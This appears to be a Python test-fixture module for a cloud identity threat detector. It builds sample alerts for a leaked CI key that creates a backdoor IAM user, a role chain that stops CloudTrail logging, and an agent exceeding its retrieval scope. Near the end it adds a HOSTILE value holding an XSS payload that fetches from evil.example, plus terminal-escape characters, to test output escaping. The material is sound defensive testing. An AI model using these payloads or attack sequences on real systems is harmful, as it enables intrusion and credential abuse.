"""Alerts as a real run would publish them, for the page, the story and the table."""

from collections.abc import Sequence

from msgspec import structs

from detector.config import DAY, MINUTE, ResponseConfig
from detector.detections.meta import Detection
from detector.findings import Evidence, Finding, Moment, Normal
from detector.respond.plan import plan
from detector.sinks.ocsf import alert
from schemas.alert import Alert
from schemas.command import Descendant
from schemas.event import Credential, Origin, Principal
from schemas.fact import Step

START = 1_731_578_412_000
ACCOUNT = "123456789012"
CI = Principal(
    uid=f"aws:{ACCOUNT}:user/ci-deploy",
    name="ci-deploy",
    account=ACCOUNT,
    type="service",
    owner="platform@example.com",
    known_by=f"arn:aws:iam::{ACCOUNT}:user/ci-deploy",
)
CI_KEY = Credential(
    fingerprint="6b1f0c", uid="AKIAIOSFODNN7EXAMPLE", uid_kind="access_key_id", type="access_key",
    lifetime="static", issued=START - 412 * DAY,
)  # fmt: skip
PERSON = Principal(
    uid=f"aws:{ACCOUNT}:role/AWSReservedSSO_PowerUser_1a2b:lin@example.com",
    name="AWSReservedSSO_PowerUser_1a2b",
    account=ACCOUNT,
    type="human",
    role="AWSReservedSSO_PowerUser_1a2b",
    session="lin@example.com",
    mfa=True,
)
SESSION = Credential(
    fingerprint="c01d77", uid="ASIAIOSFODNN7EXAMPLE", type="session", lifetime="ephemeral",
    issued=START + 40 * MINUTE, expires=START + 520 * MINUTE,
)  # fmt: skip
AGENT = Principal(
    uid="agent:support-search", name="support-search", type="agent", profile="external_agent",
    owner="support-eng@example.com",
)  # fmt: skip
TOKEN = Credential(
    fingerprint="e8a2f4", uid="h3Zk8f3c", uid_kind="accessor", type="vault_token",
    lifetime="ephemeral", issued=START + 80 * MINUTE, bound_to="spiffe://example.com/support",
)  # fmt: skip

NEW_AND_GRAVE = Detection(
    needs=("action.effect",),
    id="grave_and_new",
    title="Grave action by a credential that never did such things",
    summary="One action with a grave effect, new for the identity and rare among its peers.",
    severity=4,
    status="stable",
    kind="monotone",
    attack=("T1136.003", "T1098.001"),
    owasp=("NHI5:2025", "ASI03"),
    benign="A planned change by an administrator or a pipeline's first run.",
    check="Is there a change ticket for exactly this action and target?",
    runbook="Revoke the credential, then revert the change.",
)
UNUSUAL = structs.replace(
    NEW_AND_GRAVE,
    id="behavioural_anomaly",
    title="Behaviour unlike the identity's past and its peers",
    summary="Several rare or refused operations within minutes, from an unusual place or tool.",
    severity=3,
    attack=("T1078.004", "T1580"),
    owasp=("NHI2:2025",),
    benign="A migration, or the first run of a new tool by the same person.",
    check="Does the owner recognise the tool and the network of the decisive event?",
)
WALKED = structs.replace(
    NEW_AND_GRAVE,
    id="lateral_movement",
    title="Path through identities that nobody walked before",
    attack=("T1078.004", "T1548.005"),
    benign="An engineer debugging a deployment through the roles of their team.",
    check="Did lin@example.com announce work in the production account?",
)
BOUNDS = structs.replace(
    NEW_AND_GRAVE,
    id="credential_out_of_bounds",
    title="Retrieval credential used to act",
    summary="A credential granted for one plane was used in another.",
    attack=("T1528",),
    atlas=("AML.T0053",),
    owasp=("ASI02", "ASI03"),
    benign="The task's declared scope is too narrow for its job.",
    check="Does the task's owner say that it may close tickets?",
)


def moments(calls: Sequence[tuple[int, str, str, str]], first: int, like: Moment) -> list[Moment]:
    """A timeline from (ms after the first, service:operation, access, status)."""
    made = []
    for number, (after, call, access, status) in enumerate(calls):
        service, operation = call.split(":")
        made.append(
            structs.replace(
                like,
                time=first + after,
                uid=f"{like.uid}-{number:02d}",
                service=service,
                operation=operation,
                access=access,
                status=status,
                target=f"arn:aws:{service}:::{operation.lower()}" if access != "list" else "",
            )
        )
    return made


STOLEN_KEY_CALLS = (
    (0, "sts:GetCallerIdentity", "read", "success"),
    (1_480, "iam:ListUsers", "list", "denied"),
    (2_210, "iam:ListRoles", "list", "denied"),
    (3_020, "s3:ListBuckets", "list", "success"),
    (4_900, "secretsmanager:ListSecrets", "list", "success"),
    (6_100, "secretsmanager:GetSecretValue", "secret_read", "success"),
    (6_900, "secretsmanager:GetSecretValue", "secret_read", "success"),
    (9_350, "iam:CreateUser", "admin", "success"),
    (10_800, "iam:AttachUserPolicy", "admin", "denied"),
    (12_000, "iam:PutUserPolicy", "admin", "success"),
    (14_400, "iam:CreateAccessKey", "credential_issue", "success"),
    (38_000, "ec2:RunInstances", "write", "dry_run"),
)
WALK_CALLS = (
    (0, "sts:AssumeRole", "credential_issue", "success"),
    (21_000, "sts:AssumeRole", "credential_issue", "success"),
    (44_000, "kms:Decrypt", "secret_read", "success"),
    (61_000, "cloudtrail:StopLogging", "admin", "success"),
)


def _evidence(
    detection: str, who: Principal, held: Credential | None, seen: list[Moment], decisive: int,
    score: float, **more: object,
) -> Evidence:  # fmt: skip
    made = Evidence(
        detection=detection,
        entity=f"principal:acme:{who.uid}",
        decisive=seen[decisive],
        moments=tuple(seen),
        score=score,
        count=len(seen),
        denied_only=all(m.status != "success" for m in seen),
        principal=who,
        credential=held,
    )
    return structs.replace(made, **more)


def _finding(uid: str, about: Detection, seen: Evidence, severity: int, **more: object) -> Finding:
    made = Finding(
        uid=uid,
        state="open",
        revision=1,
        detection=about.id,
        title=about.title,
        tenant="acme",
        entity=seen.entity,
        time=seen.moments[-1].time,
        first=seen.moments[0].time,
        last=seen.moments[-1].time,
        severity=severity,
        risk=round(100 * seen.score),
        confidence=round(95 * seen.score),
        evidence=seen,
        stable=True,
        benign=about.benign,
        check=about.check,
    )
    made = structs.replace(made, **more)
    answer = plan(made, ResponseConfig())
    return structs.replace(made, command=answer.command, withheld=answer.withheld)


def stolen_key() -> list[tuple[Finding, Detection]]:
    """One campaign of two findings: a leaked key, a backdoor user, a second key."""
    like = Moment(
        START, "7d1f02c4", address="198.51.100.23", network="198.51.100.0/24", client="boto3",
        credential=CI_KEY.uid, principal=CI.uid, novel=("network", "client", "operation"),
    )  # fmt: skip
    seen = moments(STOLEN_KEY_CALLS, START, like)
    origin = Origin("198.51.100.23", "198.51.100.0/24", "boto3", "eu-central-1")
    grave = _evidence(
        "grave_and_new", CI, CI_KEY, seen, 7, 0.96, origin=origin, count=41,
        reasons=("iam:CreateUser (persist) is new here.", "0 of 14 peers have done it."),
        normal=(
            Normal("distinct operations in 1 min", "2 operations", "19 operations"),
            Normal("services in 1 min", "1 service", "5 services"),
            Normal("denials in 1 min", "0", "6"),
            Normal("mean gap between calls", "40 s", "3 s"),
            Normal("network", "192.0.2.0/24 for 412 days", "198.51.100.0/24"),
        ),
        path=(Step(CI.uid, f"aws:{ACCOUNT}:user/svc-backup", "iam:CreateUser", seen[7].time, "e", True),),
    )  # fmt: skip
    children = (
        Descendant("AKIAI44QH8DHBEXAMPLE", "access_key", seen[10].time, "user/svc-backup"),
        Descendant("ASIAI44QH8DHBEXAMPLE", "session", seen[3].time, "role/artifact-reader"),
    )
    more = {"correlation": "campaign-ci", "descendants": children, "did": (
        "iam:CreateUser on user/svc-backup", "iam:PutUserPolicy on user/svc-backup",
        "iam:CreateAccessKey on user/svc-backup",
    ), "reach": ("reads: s3, secretsmanager, ecr", "changes: ecr, ecs, iam")}  # fmt: skip
    odd = structs.replace(grave, detection="behavioural_anomaly", score=0.81, decisive=seen[3])
    odd = structs.replace(odd, reasons=("9 unusual operations in 2 min.",), path=())
    return [
        (_finding("f-7b21", NEW_AND_GRAVE, grave, 5, **more), NEW_AND_GRAVE),
        (_finding("f-90aa", UNUSUAL, odd, 4, **more), UNUSUAL),
    ]


def role_chain() -> list[tuple[Finding, Detection]]:
    """A person who walks through two roles into production and stops the trail."""
    first = START + 47 * MINUTE
    like = Moment(
        first, "c2a9e1b7", address="203.0.113.9", network="203.0.113.0/24", client="aws-cli",
        credential=SESSION.uid, principal=PERSON.uid, novel=("operation",),
    )  # fmt: skip
    seen = moments(WALK_CALLS, first, like)
    path = (
        Step(PERSON.uid, f"aws:{ACCOUNT}:role/build-runner", "sts:AssumeRole", first, "a"),
        Step(f"aws:{ACCOUNT}:role/build-runner", "aws:210987654321:role/prod-admin",
             "sts:AssumeRole", first + 21_000, "b", novel=True),
        Step("aws:210987654321:role/prod-admin", "aws:210987654321:role/prod-audit",
             "sts:AssumeRole", first + 50_000, "c", novel=True),
    )  # fmt: skip
    walked = _evidence(
        "lateral_movement", PERSON, SESSION, seen, 1, 0.88, path=path,
        origin=Origin("203.0.113.9", "203.0.113.0/24", "aws-cli", "us-east-1", 64500, "NL"),
        reasons=("3 hops into another account; the last two were never walked before.",),
        normal=(Normal("hops from a person", "at most 1", "3"),),
    )  # fmt: skip
    did = ("cloudtrail:StopLogging on trail/main",)
    return [(_finding("f-11c0", WALKED, walked, 4, did=did, correlation="campaign-lin"), WALKED)]


def agent_acts() -> list[tuple[Finding, Detection]]:
    """A retrieval agent that writes; a denied probe that stays quiet and gets no command."""
    first = START + 95 * MINUTE
    like = Moment(first, "tu-8831", network="10.4.0.0/16", client="mcp", principal=AGENT.uid)
    calls = ((0, "tickets:search", "read", "success"), (900, "tickets:close", "write", "success"))
    acted = _evidence(
        "credential_out_of_bounds", AGENT, TOKEN, moments(calls, first, like), 1, 0.9,
        reasons=("The task was granted the retrieval plane; tickets:close acts.",),
    )  # fmt: skip
    probe = moments(((0, "iam:ListUsers", "list", "denied"),), first + MINUTE, like)
    tried = _evidence("behavioural_anomaly", CI, None, probe, 0, 0.41)
    return [
        (_finding("f-52fe", BOUNDS, acted, 4, did=("tickets:close on ticket 1",)), BOUNDS),
        (_finding("f-0e0e", UNUSUAL, tried, 2), UNUSUAL),
    ]


def alerts() -> list[Alert]:
    """Every sample as a published message."""
    return [alert(*pair) for pair in (*stolen_key(), *role_chain(), *agent_acts())]


HOSTILE = '"><script>fetch("//evil.example")</script><img src=x onerror=alert(1)>\x1b[2J\u202e'


def hostile() -> list[Alert]:
    """An alert whose every log value tries to break out of the page and of the terminal."""
    like = Moment(
        START, HOSTILE, target=HOSTILE, foreign=HOSTILE, address=HOSTILE, network=HOSTILE,
        client=HOSTILE, credential=HOSTILE, principal=HOSTILE, novel=(HOSTILE,),
    )  # fmt: skip
    seen = moments(STOLEN_KEY_CALLS[:3], START, like)
    seen = [structs.replace(m, service=HOSTILE, operation=HOSTILE, target=HOSTILE) for m in seen]
    who = Principal(HOSTILE, HOSTILE, HOSTILE, "human", "", HOSTILE, HOSTILE, HOSTILE, HOSTILE)
    held = Credential(HOSTILE, HOSTILE, HOSTILE, HOSTILE, bound_to=HOSTILE, parent=HOSTILE)
    found = _evidence(
        HOSTILE, who, held, seen, 0, 0.9, reasons=(HOSTILE,),
        normal=(Normal(HOSTILE, HOSTILE, HOSTILE), Normal(HOSTILE, f"2 {HOSTILE}", f"9 {HOSTILE}")),
        path=(Step(HOSTILE, f"{HOSTILE}2", HOSTILE, START, HOSTILE, True),),
        origin=Origin(HOSTILE, HOSTILE, HOSTILE, HOSTILE, 1, HOSTILE, HOSTILE),
    )  # fmt: skip
    child = Descendant(HOSTILE, HOSTILE, START, HOSTILE, HOSTILE)
    pairs = _finding(
        HOSTILE, NEW_AND_GRAVE, found, 5, title=HOSTILE, did=(HOSTILE,), reach=(HOSTILE,),
        descendants=(child,), benign=HOSTILE, check=HOSTILE, correlation=HOSTILE,
    )  # fmt: skip
    return [alert(pairs, NEW_AND_GRAVE)]
